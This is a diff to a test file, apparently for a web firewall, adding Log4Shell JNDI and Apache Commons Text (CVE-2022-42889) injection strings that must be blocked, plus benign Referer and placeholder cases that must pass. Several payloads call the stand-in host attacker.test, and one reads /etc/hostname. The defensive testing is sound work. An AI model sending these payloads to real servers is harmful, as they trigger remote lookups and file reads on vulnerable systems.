@@ -152,6 +152,13 @@ describe("java: attacks are blocked", () => {
       () => header("user-agent", "&#x24;&#0000000000000000000000000000000123;jndi:ldap://attacker.test/a}"),
     ],
     ["letter smuggling without jndi", () => query("${${::-${::-$${::-j}}}}")],
+    // Apache Commons Text's interpolator (CVE-2022-42889), as log4j-scan sends it.
+    ["a Commons Text url lookup", () => query("${url:UTF-8::https://attacker.test/a}")],
+    ["a Commons Text dns lookup in the User-Agent", () => header("user-agent", "${dns:address|attacker.test}")],
+    ["a Commons Text file lookup", () => query("${file:UTF-8:/etc/hostname}")],
+    // A Referer is read in parts (path, query); a lookup where its host should be is read too.
+    ["a lookup as the Referer's host", () => header("referer", "https://${jndi:ldap://attacker.test/a}")],
+    ["a Commons Text lookup as the Referer's host", () => header("referer", "https://${dns:address|attacker.test}")],
   ])("%s", (_name, run) => {
     expect(run().action).toBe("block");
   });
@@ -194,6 +201,14 @@ describe("java: ordinary traffic passes", () => {
     ],
     ["shell defaults", () => json({ script: "export DB=${POSTGRES_PASSWORD:-secret}\nexport A=${B:-${C:-d}}" })],
     ["Spring placeholders", () => form("server.port=%24%7BPORT%3A8080%7D")],
+    ["a Referer with a port", () => header("referer", "https://app.example.com:8443/notes?x=1")],
+    ["a Referer with a user", () => header("referer", "https://sam@intranet.example/wiki/Start")],
+    ["a Referer with an IP literal", () => header("referer", "http://[2001:db8::1]:8080/")],
+    ["a Referer with an international host", () => header("referer", "https://bücher.example/suche?q=krimi")],
+    [
+      "placeholders named url, file and dns",
+      () => json({ tpl: "Open ${url} from ${file.encoding} and ${dns.server}" }),
+    ],
     ["an ordinary gzip'd base64 value", () => header("cookie", `state=${GZIP_JSON}`)],
     ["a foreclosure misspelling", () => query("forclosure homes for sale runtime 2 hours", "q")],
     ["a JSP file name in prose", () => query("index.jsp vs servlet", "q")],
